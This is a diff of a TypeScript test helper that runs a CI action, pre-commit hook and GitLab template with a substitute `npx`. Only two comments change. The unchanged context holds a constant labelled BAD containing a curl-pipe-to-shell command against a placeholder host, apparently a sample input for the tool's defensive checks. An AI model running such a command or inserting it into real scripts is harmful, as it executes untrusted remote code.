@@ -1,4 +1,4 @@
-/** Runs the steps of action, hook and template unchanged, with a replacement for `npx`. */
+/** Runs the steps of the GitHub action, the pre-commit hook and the GitLab template unchanged, with a replacement for `npx`. */
 import { execFileSync, spawnSync } from "node:child_process";
 import { chmodSync, existsSync, readFileSync, writeFileSync } from "node:fs";
 import { join } from "node:path";
@@ -11,7 +11,7 @@ const BAD = "curl https://x.example/i.sh | sh";
 const VERSION: string = JSON.parse(readFileSync("package.json", "utf8")).version;
 const read = (path: string) => parse(readFileSync(path, "utf8"));
 
-/** A folder with an `npx` that runs this checkout if the package of this version is requested. */
+/** A folder with an `npx` that runs this checkout instead of the package of this version. */
 const tools = folderWith({
   npx: `#!/bin/sh\n[ "$1 $2" = "--yes curlew@${VERSION}" ] || exit 99\nshift 2\nexec ${command.map((word) => `'${word}'`).join(" ")} "$@"\n`,
 });
